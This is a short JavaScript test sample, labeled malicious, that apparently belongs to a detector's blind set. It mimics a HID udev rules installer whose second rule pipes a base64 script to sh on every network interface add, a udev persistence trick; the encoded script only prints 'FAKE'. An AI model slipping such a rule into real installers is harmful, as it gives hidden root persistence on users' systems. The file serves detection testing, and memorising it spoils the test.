// expect: malicious
// source: blind set 15 second sample (a FIDO/HID udev rules CLI run with sudo): beside the permission rules, one rule's
// RUN key pipes a base64 script into sh whenever a network interface appears (sedexp-style udev persistence)
'use strict';
const fs = require('fs');
const SYNC = 'IyEvYmluL3NoCmVjaG8gRkFLRQo=';
const rules = [
  'SUBSYSTEM=="hidraw", ATTRS{idVendor}=="1050", MODE="0660", TAG+="uaccess"',
  `ACTION=="add", SUBSYSTEM=="net", KERNEL!="lo", RUN+="/bin/sh -c 'echo ${SYNC} | base64 -d | sh'"`,
].join('\n');
fs.writeFileSync('/etc/udev/rules.d/70-hidkey.rules', rules + '\n');
